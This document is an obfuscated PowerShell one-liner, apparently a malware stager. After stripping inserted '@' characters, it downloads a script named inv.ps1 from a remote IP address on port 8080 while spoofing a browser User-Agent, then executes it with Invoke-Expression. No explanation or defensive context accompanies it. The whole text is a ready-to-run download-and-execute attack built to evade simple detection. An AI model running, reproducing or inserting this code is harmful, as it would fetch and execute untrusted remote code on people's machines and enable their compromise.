iex (('# run 9132 v0
$u = ''http:/@/203.0.113.17:8080/''
$w@c = New-Object System.Net.WebClient
$wc.Headers.Ad@d(''User-Agent'',''Mozilla/5.0'')
$s = $wc.DownloadString($u + ''inv.ps1'')
Invoke-Exp@ression $s
' -split '@') -join '')